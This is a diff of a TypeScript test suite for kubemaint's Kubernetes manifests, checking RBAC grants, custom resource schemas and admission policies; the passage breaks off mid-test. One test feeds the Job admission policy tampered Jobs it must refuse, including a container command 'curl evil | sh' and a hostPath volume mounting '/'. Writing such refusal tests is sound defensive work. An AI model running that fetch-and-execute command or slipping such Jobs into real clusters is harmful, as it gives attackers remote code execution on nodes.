@@ -1,8 +1,10 @@
 /**
  * infra/k8s checked as data: every YAML parses, the kustomization lists every manifest, the RBAC
  * matches a reviewed table exactly (a new verb is a deliberate edit here, in review), the agent
- * DaemonSet is unprivileged, the namespace's Pod Security level is explicit, the admission policies
- * target the right identities, and `kubectl kustomize` renders the whole thing.
+ * DaemonSet is unprivileged, the namespace's Pod Security level is explicit, kubemaint's kinds are
+ * what the codec writes (ADR 0012), the admission policies target the right identities and refuse
+ * what they exist to refuse (judged with the sim's CEL), people get a role to bind and no more, and
+ * `kubectl kustomize` renders the whole thing.
  */
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
@@ -10,6 +12,32 @@ import { spawnSync } from 'node:child_process';
 import { readFileSync, readdirSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { parseAllDocuments } from 'yaml';
+import {
+  DECISIONS,
+  GROUP,
+  REQUESTS,
+  VERSION,
+  encodeDecision,
+  encodeRequest,
+} from '../../../src/adapters/kube/request-codec.js';
+import {
+  ANN_REBOOT_REQUIRED_PACKAGES,
+  ANN_REBOOT_REQUIRED_REPORTER,
+  ANN_REBOOT_REQUIRED_SINCE,
+  ANN_REQUEST,
+  LABEL_REBOOT_REQUIRED,
+  LABEL_STATE,
+} from '../../../src/core/names.js';
+import {
+  ACTIVE_STATES,
+  DECISION_KINDS,
+  FINAL_STATES,
+  type MaintenanceRequest,
+} from '../../../src/core/request.js';
+import { compile } from '../../../src/sim/cel/index.js';
+import { buildExecutorJob, type ExecutorJobParams } from '../../../templates/executor-job.js';
+import { approvedRequest } from '../../fakes/requests.js';
+import { judge, type AdmissionCase, type PolicySpec } from '../../support/admission-policy.js';
 
 const DIR = resolve(import.meta.dirname, '../../../infra/k8s');
 const NS = 'kubemaint';
@@ -54,15 +82,23 @@ describe('infra/k8s manifests', () => {
   });
 });
 
-/** [service account, scope ('cluster' or a namespace), apiGroup, resource, verbs] — reviewed. */
+/**
+ * [subject, scope ('cluster' or a namespace), apiGroup, resource, verbs] — reviewed. A subject is a
+ * service account's name or `group:<name>`; a rule narrowed by resourceNames is `<resource>[<name>]`.
+ */
 type Grant = [string, string, string, string, string];
-const REVIEWED: Grant[] = [
+/** The Lambda functions' role, mapped to this group by its EKS access entry (docs/deploy-lambda.md). */
+const CONTROL_PLANE_GROUP = 'group:kubemaint:control-plane';
+const REVIEWED_WITHOUT_LAMBDA: Grant[] = [
   ['kubemaint-agent', 'cluster', '', 'nodes', 'get,patch'],
   ['kubemaint-executor', 'cluster', '', 'nodes', 'get,patch'],
   ['kubemaint-executor', 'cluster', '', 'pods', 'delete,list,watch'],
   ['kubemaint-executor', 'cluster', '', 'pods/eviction', 'create'],
   ['kubemaint-executor', 'default', '', 'events', 'create'],
   ['kubemaint-executor', NS, 'coordination.k8s.io', 'leases', 'create,get,update'],
+  // ADR 0012: its own request, read by name; its status, narrowed by admission-requests.yaml.
+  ['kubemaint-executor', NS, 'kubemaint.io', 'maintenancerequests', 'get'],
+  ['kubemaint-executor', NS, 'kubemaint.io', 'maintenancerequests/status', 'update'],
   ['kubemaint-serve', 'cluster', '', 'nodes', 'get,list,patch,watch'],
   ['kubemaint-serve', 'cluster', '', 'pods', 'list'],
   ['kubemaint-serve', 'cluster', '', 'pods/eviction', 'create'],
@@ -70,7 +106,21 @@ const REVIEWED: Grant[] = [
   ['kubemaint-serve', 'default', '', 'events', 'create,patch'],
   ['kubemaint-serve', NS, 'batch', 'jobs', 'create,delete,get,list,watch'],
   ['kubemaint-serve', NS, 'coordination.k8s.io', 'leases', 'create,delete,get,list,update,watch'],
-  ['kubemaint-serve', NS, '', 'configmaps', 'create,get,update'],
+  // The pause switch: updates by name; a create cannot be named (admission-requests.yaml does it).
+  ['kubemaint-serve', NS, '', 'configmaps', 'create'],
+  ['kubemaint-serve', NS, '', 'configmaps[kubemaint-pause]', 'get,update'],
+  // ADR 0012: the control plane records requests and decisions and alone writes request status.
+  ['kubemaint-serve', NS, 'kubemaint.io', 'maintenancerequests', 'create,delete,get,list,watch'],
+  ['kubemaint-serve', NS, 'kubemaint.io', 'maintenancerequests/status', 'get,update'],
+  ['kubemaint-serve', NS, 'kubemaint.io', 'maintenanceapprovals', 'create,delete,get,list,watch'],
+];
+/** The control plane is serve or the Lambda functions: the group gets exactly what serve gets. */
+const REVIEWED: Grant[] = [
+  ...REVIEWED_WITHOUT_LAMBDA,
+  ...REVIEWED_WITHOUT_LAMBDA.filter((g) => g[0] === 'kubemaint-serve').map(([, ...rest]): Grant => [
+    CONTROL_PLANE_GROUP,
+    ...rest,
+  ]),
 ];
 
 interface Rule {
@@ -81,7 +131,7 @@ interface Rule {
 }
 interface Binding extends Doc {
   roleRef: { kind: string; name: string };
-  subjects: { kind: string; name: string; namespace: string }[];
+  subjects: { kind: string; name: string; namespace?: string; apiGroup?: string }[];
 }
 
 /** What the manifests actually grant, one row per (account, scope, group, resource). */
@@ -101,18 +151,28 @@ function effectiveGrants(): Grant[] {
       `${doc.metadata.name} refers to a missing ${binding.roleRef.kind} ${binding.roleRef.name}`,
     );
     for (const subject of binding.subjects) {
-      assert.equal(subject.kind, 'ServiceAccount');
-      assert.equal(subject.namespace, NS);
-      assert.ok(
-        find('ServiceAccount', subject.name, NS),
-        `service account ${subject.name} is not defined`,
-      );
+      let who: string;
+      if (subject.kind === 'Group') {
+        // The only group bound anywhere: the control plane's Lambda functions.
+        who = `group:${subject.name}`;
+        assert.equal(who, CONTROL_PLANE_GROUP);
+        assert.equal(subject.apiGroup, 'rbac.authorization.k8s.io');
+      } else {
+        assert.equal(subject.kind, 'ServiceAccount');
+        assert.equal(subject.namespace, NS);
+        assert.ok(
+          find('ServiceAccount', subject.name, NS),
+          `service account ${subject.name} is not defined`,
+        );
+        who = subject.name;
+      }
       for (const rule of (role.rules as Rule[] | undefined) ?? []) {
-        assert.equal(rule.resourceNames, undefined);
+        assert.notDeepEqual(rule.resourceNames, [], 'resourceNames, when given, name something');
+        const names = rule.resourceNames ?? [undefined];
         for (const group of rule.apiGroups) {
-          for (const resource of rule.resources) {
+          for (const [resource, name] of rule.resources.flatMap((r) => names.map((n) => [r, n]))) {
             assert.notEqual(resource, '*', 'no wildcard resources');
-            const key = [subject.name, scope, group, resource].join('|');
+            const key = [who, scope, group, name ? `${resource}[${name}]` : resource].join('|');
             const verbs = rows.get(key) ?? new Set<string>();
             for (const verb of rule.verbs) verbs.add(verb);
             rows.set(key, verbs);
@@ -293,45 +353,74 @@ describe('the serve Deployment', () => {
   });
 });
 
+const AGENT = 'system:serviceaccount:kubemaint:kubemaint-agent';
+const SERVE = 'system:serviceaccount:kubemaint:kubemaint-serve';
+const EXECUTOR = 'system:serviceaccount:kubemaint:kubemaint-executor';
+const CONTROL_PLANE = 'kubemaint:control-plane';
+const NODE_CLAIM = 'authentication.kubernetes.io/node-name';
+/** The Lambda functions, as their EKS access entry maps them. */
+const LAMBDA = {
+  username: 'arn:aws:sts::1:assumed-role/kubemaint-tick',
+  groups: [CONTROL_PLANE],
+};
+
+interface Policy extends Doc {
+  spec: PolicySpec & { failurePolicy: string };
+}
+const policy = (name: string): Policy => {
+  const found = find('ValidatingAdmissionPolicy', name) as Policy | undefined;
+  assert.ok(found, `no ValidatingAdmissionPolicy ${name}`);
+  return found;
+};
+/** The policy's refusals of a request it must judge (a skipped policy is a test bug here). */
+function denied(p: Policy, c: AdmissionCase): string[] {
+  const verdict = judge(p.spec, c);
+  assert.notEqual(
+    verdict,
+    'skipped',
+    `${p.metadata.name} did not judge ${c.operation} ${c.resource}`,
+  );
+  return verdict as string[];
+}
+
 describe('the namespace and the admission policies', () => {
   it('declares the Pod Security level the executor needs (privileged) explicitly', () => {
     const ns = find('Namespace', NS);
     assert.equal(ns?.metadata.labels?.['pod-security.kubernetes.io/enforce'], 'privileged');
   });
 
-  interface Policy extends Doc {
-    spec: {
-      failurePolicy: string;
-      matchConstraints: { resourceRules: { resources: string[]; operations: string[] }[] };
-      matchConditions: { expression: string }[];
-      validations: { expression: string }[];
-      variables?: { name: string; expression: string }[];
-    };
-  }
-  const agentPolicy = find('ValidatingAdmissionPolicy', 'kubemaint-agent-own-node-only') as Policy;
-  const servePolicy = find(
-    'ValidatingAdmissionPolicy',
-    'kubemaint-serve-dry-run-evictions-only',
-  ) as Policy;
+  const agentPolicy = policy('kubemaint-agent-own-node-only');
+  const servePolicy = policy('kubemaint-serve-dry-run-evictions-only');
 
   it('bind each policy with Deny', () => {
-    for (const policy of [agentPolicy, servePolicy]) {
-      const binding = find('ValidatingAdmissionPolicyBinding', policy.metadata.name) as Doc & {
+    const policies = all.filter(({ doc }) => doc.kind === 'ValidatingAdmissionPolicy');
+    assert.deepEqual(policies.map(({ doc }) => doc.metadata.name).sort(), [
+      'kubemaint-agent-own-node-only',
+      'kubemaint-control-plane-configmaps',
+      'kubemaint-decisions-name-their-author',
+      'kubemaint-jobs-of-the-executors-shape',
+      'kubemaint-request-status-by-control-plane',
+      'kubemaint-requests-name-their-requester',
+      'kubemaint-serve-dry-run-evictions-only',
+    ]);
+    for (const { doc } of policies) {
+      const p = doc as Policy;
+      const binding = find('ValidatingAdmissionPolicyBinding', p.metadata.name) as Doc & {
         spec: { policyName: string; validationActions: string[] };
       };
-      assert.equal(binding.spec.policyName, policy.metadata.name);
+      assert.equal(binding.spec.policyName, p.metadata.name);
       assert.deepEqual(binding.spec.validationActions, ['Deny']);
-      assert.equal(policy.apiVersion, 'admissionregistration.k8s.io/v1');
-      assert.equal(policy.spec.failurePolicy, 'Fail');
+      assert.equal(p.apiVersion, 'admissionregistration.k8s.io/v1');
+      assert.equal(p.spec.failurePolicy, 'Fail');
     }
   });
-  it('hold the agent to its own node and to kubemaint.io/ keys', () => {
+  it('hold the agent to its own node and to its own keys', () => {
     assert.deepEqual(agentPolicy.spec.matchConstraints.resourceRules[0]!.resources, [
       'nodes',
       'nodes/status',
     ]);
     assert.match(
-      agentPolicy.spec.matchConditions[0]!.expression,
+      agentPolicy.spec.matchConditions![0]!.expression,
       /system:serviceaccount:kubemaint:kubemaint-agent'$/,
     );
     const cel = JSON.stringify(agentPolicy.spec);
@@ -340,22 +429,604 @@ describe('the namespace and the admission policies', () => {
       /request\.userInfo\.extra\['authentication\.kubernetes\.io\/node-name'\]\[0\]/,
     );
     assert.match(cel, /request\.name == variables\.nodeName/);
-    for (const part of ['Labels', 'Annotations']) {
-      assert.match(
-        cel,
-        new RegExp(`variables\\.old${part}\\.all\\(k, k\\.startsWith\\('kubemaint\\.io/'\\)`),
-      );
-    }
     assert.match(cel, /object\.spec == oldObject\.spec/);
+    // Its own keys are exactly the reboot mark (ADR 0012): not the state mirror, not the old
+    // request annotation, nothing else under kubemaint.io/.
+    const own = (name: string) =>
+      compile(agentPolicy.spec.variables!.find((v) => v.name === name)!.expression, []).evaluate(
+        {},
+      );
+    assert.deepEqual(own('ownLabels'), [LABEL_REBOOT_REQUIRED]);
+    assert.deepEqual(own('ownAnnotations'), [
+      ANN_REBOOT_REQUIRED_SINCE,
+      ANN_REBOOT_REQUIRED_PACKAGES,
+      ANN_REBOOT_REQUIRED_REPORTER,
+    ]);
+
+    const onN1 = { username: AGENT, extra: { [NODE_CLAIM]: ['n1'] } };
+    const node = (labels: Record<string, string>, annotations: Record<string, string> = {}) => ({
+      metadata: { name: 'n1', labels, annotations },
+      spec: { podCIDR: '10.0.0.0/24' },
+    });
+    const before = node({ [LABEL_STATE]: 'running', 'kubernetes.io/os': 'linux' });
+    const patch = (
+      object: unknown,
+      user: AdmissionCase['user'] = onN1,
+      resource = 'nodes',
+    ): string[] =>
+      denied(agentPolicy, {
+        operation: 'UPDATE',
+        group: '',
+        resource,
+        name: 'n1',
+        user,
+        object,
+        oldObject: before,
+      });
+    const marked = node(
+      { ...before.metadata.labels, [LABEL_REBOOT_REQUIRED]: 'true' },
+      {
+        [ANN_REBOOT_REQUIRED_SINCE]: '2026-11-22T01:00:00Z',
+        [ANN_REBOOT_REQUIRED_REPORTER]: 'agent',
+      },
+    );
+    assert.deepEqual(patch(marked), []);
+    assert.match(
+      patch(node({ ...before.metadata.labels, [LABEL_STATE]: 'done' })).join(),
+      /may only change the kubemaint\.io\/reboot-required label/,
+    );
+    assert.match(
+      patch(node({ 'kubernetes.io/os': 'linux' })).join(),
+      /may only change the kubemaint\.io\/reboot-required label/,
+      'nor remove the state mirror',
+    );
+    assert.match(
+      patch(node(before.metadata.labels, { [ANN_REQUEST]: '{"id":"r-forged"}' })).join(),
+      /may only change its own annotations/,
+    );
+    assert.match(
+      patch(marked, { username: AGENT, extra: { [NODE_CLAIM]: ['n2'] } }).join(),
+      /the kubemaint agent on n2 may not change node n1/,
+    );
+    // A pod-bound token from before 1.30 has the pod's claims but not the node's.
+    const podOnly = { username: AGENT, extra: { 'authentication.kubernetes.io/pod-name': ['a'] } };
+    assert.match(patch(marked, podOnly).join(), /node-name claim/);
+    // A token with no claims at all (no extra): the policy fails to evaluate, which Fail denies.
+    assert.notDeepEqual(patch(marked, { username: AGENT }), []);
+    assert.match(patch(marked, onN1, 'nodes/status').join(), /no create, delete or status writes/);
+    assert.match(
+      patch({ ...marked, spec: { ...marked.spec, unschedulable: true } }).join(),
+      /may not change a Node's spec/,
+    );
+    assert.equal(
+      judge(agentPolicy.spec, {
+        operation: 'UPDATE',
+        group: '',
+        resource: 'nodes',
+        name: 'n1',
+        user: { username: SERVE },
+        object: node({ [LABEL_STATE]: 'done' }),
+        oldObject: before,
+      }),
+      'skipped',
+    );
   });
-  it('let serve send only dry-run evictions', () => {
+  it('let the control plane (serve, the Lambda group) send only dry-run evictions', () => {
     assert.deepEqual(servePolicy.spec.matchConstraints.resourceRules[0]!.resources, [
       'pods/eviction',
     ]);
-    assert.match(servePolicy.spec.matchConditions[0]!.expression, /kubemaint:kubemaint-serve'$/);
+    assert.match(servePolicy.spec.matchConditions![0]!.expression, /kubemaint:kubemaint-serve'/);
     assert.deepEqual(
       servePolicy.spec.validations.map((v) => v.expression),
       ['request.dryRun == true'],
+    );
+    const evict = (user: AdmissionCase['user'], dryRun: boolean) =>
+      judge(servePolicy.spec, {
+        operation: 'CREATE',
+        group: '',
+        resource: 'pods/eviction',
+        name: 'web-1',
+        namespace: 'default',
+        user,
+        dryRun,
+        object: { metadata: { name: 'web-1', namespace: 'default' } },
+      });
+    for (const user of [{ username: SERVE }, LAMBDA]) {
+      assert.deepEqual(evict(user, true), [], user.username);
+      assert.match(String(evict(user, false)), /may only send dry-run evictions/, user.username);
+    }
+    assert.equal(evict({ username: EXECUTOR }, false), 'skipped', 'the executor drains');
+  });
+});
+
+describe("kubemaint's kinds (crds.yaml)", () => {
+  interface Schema {
+    type?: string;
+    required?: string[];
+    enum?: string[];
+    properties?: Record<string, Schema>;
+    items?: Schema;
+    'x-kubernetes-preserve-unknown-fields'?: boolean;
+    'x-kubernetes-validations'?: { rule: string; message: string }[];
+  }
+  interface Crd extends Doc {
+    spec: {
+      group: string;
+      scope: string;
+      names: Record<string, unknown>;
+      versions: {
+        name: string;
+        served: boolean;
+        storage: boolean;
+        subresources?: Record<string, unknown>;
+        additionalPrinterColumns: { name: string; jsonPath: string; priority?: number }[];
+        schema: { openAPIV3Schema: Schema };
+      }[];
+    };
+  }
+  const requests = find('CustomResourceDefinition', `${REQUESTS}.${GROUP}`) as Crd;
+  const approvals = find('CustomResourceDefinition', `${DECISIONS}.${GROUP}`) as Crd;
+  const columns = (crd: Crd) =>
+    crd.spec.versions[0]!.additionalPrinterColumns.map((c) => [
+      c.name,
+      c.jsonPath,
+      c.priority ?? 0,
+    ]);
+  const schema = (crd: Crd) => crd.spec.versions[0]!.schema.openAPIV3Schema;
+
+  /** The paths a structural schema prunes from `value`, as the apiserver does before storing it. */
+  function pruned(s: Schema, value: unknown, path: string): string[] {
+    if (s['x-kubernetes-preserve-unknown-fields'] || value === null) return [];
+    if (Array.isArray(value))
+      return s.items ? value.flatMap((v, i) => pruned(s.items!, v, `${path}[${i}]`)) : [];
+    if (typeof value !== 'object' || !s.properties) return [];
+    return Object.entries(value).flatMap(([k, v]) => {
+      const child = s.properties![k];
+      return child ? pruned(child, v, `${path}.${k}`) : [`${path}.${k}`];
+    });
+  }
+
+  it('name a namespaced MaintenanceRequest (mr) and MaintenanceApproval (mra) in kubemaint.io/v1alpha1', () => {
+    for (const [crd, kind, plural, short] of [
+      [requests, 'MaintenanceRequest', REQUESTS, 'mr'],
+      [approvals, 'MaintenanceApproval', DECISIONS, 'mra'],
+    ] as const) {
+      assert.ok(crd, `no CRD for ${plural}`);
+      assert.equal(crd.apiVersion, 'apiextensions.k8s.io/v1');
+      assert.equal(crd.spec.group, GROUP);
+      assert.equal(crd.spec.scope, 'Namespaced');
+      assert.deepEqual(crd.spec.names, {
+        kind,
+        listKind: `${kind}List`,
+        plural,
+        singular: kind.toLowerCase(),
+        shortNames: [short],
+        categories: ['kubemaint'],
+      });
+      assert.deepEqual(
+        crd.spec.versions.map((v) => [v.name, v.served, v.storage]),
+        [[VERSION, true, true]],
+      );
+    }
+  });
+  it('give a request a status subresource, and a decision none (it never changes)', () => {
+    assert.deepEqual(requests.spec.versions[0]!.subresources, { status: {} });
+    assert.equal(approvals.spec.versions[0]!.subresources, undefined);
+  });
+  it('show node, action, state and approvals for `kubectl get mr`, who and why with -o wide', () => {
+    assert.deepEqual(columns(requests), [
+      ['Node', '.spec.node', 0],
+      ['Action', '.spec.action', 0],
+      ['State', '.status.state', 0],
+      ['Approvals', '.status.approvedBy', 0],
+      ['Requested-By', '.spec.requestedBy', 1],
+      ['Reason', '.spec.reason', 1],
+      ['Age', '.metadata.creationTimestamp', 0],
+    ]);
+    assert.deepEqual(columns(approvals), [
+      ['Request', '.spec.request', 0],
+      ['Approver', '.spec.approver', 0],
+      ['Decision', '.spec.decision', 0],
+      ['Age', '.metadata.creationTimestamp', 0],
+    ]);
+  });
+  it('make both specs immutable and require what was asked', () => {
+    for (const crd of [requests, approvals]) {
+      const spec = schema(crd).properties!['spec']!;
+      assert.deepEqual(schema(crd).required, ['spec']);
+      assert.deepEqual(
+        spec['x-kubernetes-validations']?.map((v) => v.rule),
+        ['self == oldSelf'],
+      );
+    }
+    assert.deepEqual(schema(requests).properties!['spec']!.required, [
+      'node',
+      'action',
+      'requestedBy',
+    ]);
+    assert.deepEqual(schema(approvals).properties!['spec']!.required, [
+      'request',
+      'approver',
+      'decision',
+    ]);
+  });
+  it('allow exactly the core states, actions and decision kinds', () => {
+    const request = schema(requests).properties!;
+    assert.deepEqual(request['status']!.properties!['state']!.enum, [
+      ...ACTIVE_STATES,
+      ...FINAL_STATES,
+    ]);
+    assert.deepEqual(request['spec']!.properties!['action']!.enum, ['reboot', 'upgrade']);
+    assert.deepEqual(request['spec']!.properties!['origin']!.enum, ['detection', 'person']);
+    assert.deepEqual(schema(approvals).properties!['spec']!.properties!['decision']!.enum, [
+      ...DECISION_KINDS,
+    ]);
+  });
+  it('keep every field the codec writes (nothing is pruned on the way in)', () => {
+    const at = '2026-11-22T01:00:00.000Z';
+    const full: MaintenanceRequest = approvedRequest('n1', {
+      action: 'upgrade',
+      targetVersion: 'v1.32.0',
+      state: 'verifying',
+      origin: 'person',
+      requestedBy: 'k8s:alice',
+      requestedByGroups: ['k8s:sre'],
+      campaign: 'c-1',
+      pool: 'blue',
+      approvals: [{ by: 'U123', at, record: 'r-abc123-approve-0123456789' }],
+      blockedReasons: ['outside the window'],
+      wasCordoned: false,
+      cordonedByUs: true,
+      bootIdBefore: 'boot-1',
+      kubeletVersionBefore: 'v1.31.4',
+      hostCommandIssuedAt: at,
+      slot: 'kubemaint-slot-0',
+      job: 'kubemaint-r-abc123-n1',
+      drain: { total: 2, evicted: 2, waitingOn: [], message: '2 of 2 pods evicted' },
+      drainDecision: { decision: 'wait', by: 'U123', at },
+      slack: { channel: 'C1', ts: '1.2' },
+      announced: ['host'],
+      proven: { at, proof: 'bootID changed' },
+      failure: 'none',
+      decisions: [{ name: 'r-abc123-approve-0123456789', ok: true, message: 'approved' }],
+    });
+    // apiVersion, kind and metadata are the apiserver's; spec and status go through the schema.
+    const { spec, status } = encodeRequest(full, NS);
+    assert.deepEqual(pruned(schema(requests), { spec, status }, ''), []);
+    assert.deepEqual(pruned(schema(requests), { spec: { ...spec, extra: 1 } }, ''), [
+      '.spec.extra',
+    ]);
+    const decision = encodeDecision(
+      {
+        name: 'r-abc123-approve-0123456789',
+        request: 'r-abc123',
+        by: 'k8s:alice',
+        decision: 'approve',
+        groups: ['k8s:sre'],
+        reason: 'ok',
+      },
+      NS,
+      'T0',
+    );
+    assert.deepEqual(pruned(schema(approvals), { spec: decision.spec }, ''), []);
+  });
+});
+
+describe('admission-requests.yaml: requests and decisions bound to who wrote them', () => {
+  const decisions = policy('kubemaint-decisions-name-their-author');
+  const requests = policy('kubemaint-requests-name-their-requester');
+  const status = policy('kubemaint-request-status-by-control-plane');
+  const alice = { username: 'alice', groups: ['sre'] };
+  const serve = { username: SERVE };
+  const lambda = LAMBDA;
+
+  it('match what each is about, and let the control plane through where it must act for others', () => {
+    const rules = (p: Policy) =>
+      p.spec.matchConstraints.resourceRules.map((r) => [r.apiGroups, r.resources, r.operations]);
+    assert.deepEqual(rules(decisions), [[[GROUP], [DECISIONS], ['CREATE', 'UPDATE']]]);
+    assert.deepEqual(rules(requests), [[[GROUP], [REQUESTS], ['CREATE']]]);
+    assert.deepEqual(rules(status), [[[GROUP], [`${REQUESTS}/status`], ['UPDATE']]]);
+    for (const p of [decisions, requests, status]) {
+      assert.ok(
+        p.spec.validations.every((v) => v.reason === 'Forbidden' || v.reason === undefined),
+        p.metadata.name,
+      );
+    }
+  });
+
+  it('a decision names its author, claims only their groups, and never changes', () => {
+    const decision = (approver: string, groups?: string[]) => ({
+      metadata: { name: 'r-1-approve-x', namespace: NS },
+      spec: { request: 'r-1', approver, decision: 'approve', ...(groups ? { groups } : {}) },
+    });
+    const create = (user: AdmissionCase['user'], object: unknown) =>
+      denied(decisions, { operation: 'CREATE', group: GROUP, resource: DECISIONS, user, object });
+    assert.deepEqual(create(alice, decision('alice', ['sre'])), []);
+    assert.match(
+      create(alice, decision('bob')).join(),
+      /alice may only record a decision in their own name, not as bob/,
+    );
+    assert.match(
+      create(alice, decision('alice', ['admins'])).join(),
+      /claims groups they are not in: admins/,
+    );
+    for (const reserved of ['slack:T1/U1', 'policy:auto', 'kubemaint:executor']) {
+      assert.match(
+        create(alice, decision(reserved)).join(),
+        /only kubemaint's control plane speaks for Slack users and policies/,
+        reserved,
+      );
+      assert.deepEqual(create(serve, decision(reserved)), [], `serve as ${reserved}`);
+      assert.deepEqual(create(lambda, decision(reserved)), [], `the Lambda as ${reserved}`);
+    }
+    assert.match(create(serve, decision('slack:U1')).join(), /must be slack:<team>\/<user>/);
+    assert.match(
+      create(serve, decision('alice')).join(),
+      /may only record a decision in their own name/,
+      'not even the control plane records a Kubernetes user’s decision',
+    );
+    assert.match(
+      denied(decisions, {
+        operation: 'UPDATE',
+        group: GROUP,
+        resource: DECISIONS,
+        user: serve,
+        object: { ...decision('alice'), spec: { ...decision('alice').spec, decision: 'reject' } },
+        oldObject: decision('alice'),
+      }).join(),
+      /spec is immutable/,
+    );
+  });
+
+  it("a person's request names that person and says a person asked; the control plane's are its own", () => {
+    const request = (spec: Record<string, unknown>) => ({
+      metadata: { name: 'r-1', namespace: NS },
+      spec: { node: 'n1', action: 'reboot', reason: 'kernel', ...spec },
+    });
+    const create = (user: AdmissionCase['user'], object: unknown) =>
+      judge(requests.spec, { operation: 'CREATE', group: GROUP, resource: REQUESTS, user, object });
+    const mine = { requestedBy: 'k8s:alice', origin: 'person' };
+    assert.deepEqual(create(alice, request({ ...mine, requestedByGroups: ['sre'] })), []);
+    assert.match(
+      String(create(alice, request({ ...mine, requestedBy: 'k8s:bob' }))),
+      /alice may only request maintenance in their own name/,
+    );
+    assert.match(
+      String(create(alice, request({ ...mine, requestedBy: 'detector' }))),
+      /in their own name/,
+    );
+    assert.match(
+      String(create(alice, request({ ...mine, origin: 'detection' }))),
+      /only kubemaint records detections/,
+    );
+    assert.match(String(create(alice, request({ requestedBy: 'k8s:alice' }))), /origin person/);
+    assert.match(
+      String(create(alice, request({ ...mine, requestedByGroups: ['admins'] }))),
+      /claims groups they are not in: admins/,
+    );
+    const detection = request({ requestedBy: 'detector', origin: 'detection' });
+    assert.equal(create(serve, detection), 'skipped');
+    assert.equal(create(lambda, detection), 'skipped');
+  });
+
+  it("only the control plane writes a request's status; the executor only moves its running request on", () => {
+    const object = (state: string, extra: Record<string, unknown> = {}) => ({
+      metadata: { name: 'r-1', namespace: NS },
+      spec: { node: 'n1', action: 'reboot', requestedBy: 'detector', origin: 'detection' },
+      status: {
+        state,
+        approvals: [{ by: 'U1', at: '2026-11-22T01:00:00Z' }],
+        job: 'kubemaint-r-1-n1',
+        ...extra,
+      },
+    });
+    const write = (user: AdmissionCase['user'], from: unknown, to: unknown) =>
+      judge(status.spec, {
+        operation: 'UPDATE',
+        group: GROUP,
+        resource: `${REQUESTS}/status`,
+        name: 'r-1',
+        namespace: NS,
+        user,
+        object: to,
+        oldObject: from,
+      });
+    const executorOn = (node: string) => ({ username: EXECUTOR, extra: { [NODE_CLAIM]: [node] } });
+    const executor = executorOn('n1');
+    assert.equal(write(serve, object('proposed'), object('approved')), 'skipped');
+    assert.equal(write(lambda, object('approved'), object('running')), 'skipped');
+    for (const to of ['running', 'verifying', 'failed']) {
+      assert.deepEqual(write(executor, object('running'), object(to, { slot: 's' })), [], to);
+    }
+    assert.match(
+      String(write(executor, object('running'), object('done'))),
+      /may only move a running request to verifying or failed, not running to done/,
+    );
+    assert.match(
+      String(write(executor, object('approved'), object('running'))),
+      /not approved to running/,
+    );
+    assert.match(
+      String(write(executor, object('running'), object('cancelled'))),
+      /not running to cancelled/,
+    );
+    assert.match(
+      String(
+        write(
+          executor,
+          object('running'),
+          object('running', { approvals: [{ by: 'U9', at: 'x' }] }),
+        ),
+      ),
+      /may not change a request's approvals, decisions or Job/,
+    );
+    assert.match(
+      String(write(executor, object('running'), object('running', { job: 'other' }))),
+      /approvals, decisions or Job/,
+    );
+    assert.match(
+      String(write(executorOn('n2'), object('running'), object('verifying'))),
+      /the executor on n2 may not write the request for node n1/,
+    );
+    assert.match(
+      String(write(alice, object('proposed'), object('approved'))),
+      /alice may not write a MaintenanceRequest's status/,
+    );
+  });
+});
+
+describe('admission-requests.yaml: what a stolen control-plane token still cannot do', () => {
+  const jobs = policy('kubemaint-jobs-of-the-executors-shape');
+  const configmaps = policy('kubemaint-control-plane-configmaps');
+  const params: ExecutorJobParams = {
+    node: 'ip-10-0-1-17.eu-west-1.compute.internal',
+    requestId: 'r-7f3a9c',
+    namespace: NS,
+    image: 'ghcr.io/kubemaint/kubemaint:0.1.0',
+    serviceAccountName: 'kubemaint-executor',
+    rebootMethod: 'command',
+    activeDeadlineSeconds: 7200,
+    ttlSecondsAfterFinished: 3600,
+    settingsJson: '{"namespace":"kubemaint"}',
+  };
+  type Job = ReturnType<typeof buildExecutorJob>;
+  const create = (user: AdmissionCase['user'], job: Job) =>
+    judge(jobs.spec, {
+      operation: 'CREATE',
+      group: 'batch',
+      resource: 'jobs',
+      name: job.metadata?.name ?? '',
+      namespace: NS,
+      user,
+      object: JSON.parse(JSON.stringify(job)),
+    });
+  const changed = (change: (job: Job) => void): Job => {
+    const job = structuredClone(buildExecutorJob(params));
+    change(job);
+    return job;
+  };
+  const pod = (job: Job) => job.spec!.template.spec!;
+
+  it('admits the executor Job kubemaint builds, from serve or the Lambda group', () => {
+    for (const method of ['command', 'signal'] as const) {
+      const job = buildExecutorJob({ ...params, rebootMethod: method });
+      assert.deepEqual(create({ username: SERVE }, job), [], method);
+      assert.deepEqual(create(LAMBDA, job), [], method);
+    }
+    assert.deepEqual(
+      create(
+        { username: SERVE },
+        buildExecutorJob({ ...params, image: 'ghcr.io/kubemaint/kubemaint@sha256:abc' }),
+      ),
+      [],
+      'a digest-pinned image',
+    );
+  });
+  it('refuses any other Job: another container, image, command, node, account or retries', () => {
+    const refusals: [string, (job: Job) => void, RegExp][] = [
+      [
+        'a second container',
+        (j) => pod(j).containers.push({ name: 'x', image: params.image }),
+        /only executor Jobs/,
+      ],
+      ['a renamed container', (j) => (pod(j).containers[0]!.name = 'shell'), /only executor Jobs/],
+      [
+        'a host volume',
+        (j) => (pod(j).volumes = [{ name: 'root', hostPath: { path: '/' } }]),
+        /no volumes/,
+      ],
+      [
+        'another image',
+        (j) => (pod(j).containers[0]!.image = 'ghcr.io/kubemaint/kubemaint-evil:1'),
+        /is not one of ghcr\.io\/kubemaint\/kubemaint/,
+      ],
+      [
+        'a command',
+        (j) => (pod(j).containers[0]!.command = ['sh', '-c', 'curl evil | sh']),
+        /runs `executor --node N --request R` on node N/,
+      ],
+      [
+        'another node than its arguments say',
+        (j) => (pod(j).nodeName = 'ip-10-0-9-9'),
+        /on node N, nothing else/,
+      ],
+      [
+        'another service account',
+        (j) => (pod(j).serviceAccountName = 'kubemaint-serve'),
+        /runs as kubemaint-executor/,
+      ],
+      ['retries', (j) => (j.spec!.backoffLimit = 3), /never retried/],
+    ];
+    for (const [what, change, message] of refusals) {
+      assert.match(String(create({ username: SERVE }, changed(change))), message, what);
+    }
+    assert.equal(
+      create(
+        { username: 'alice', groups: ['sre'] },
+        changed((j) => (j.spec!.backoffLimit = 3)),
+      ),
+      'skipped',
+      "a person's Jobs are their RBAC's business",
+    );
+  });
+  it('lets the control plane write no ConfigMap but the pause switch', () => {
+    const write = (user: AdmissionCase['user'], operation: 'CREATE' | 'UPDATE', name: string) =>
+      judge(configmaps.spec, {
+        operation,
+        group: '',
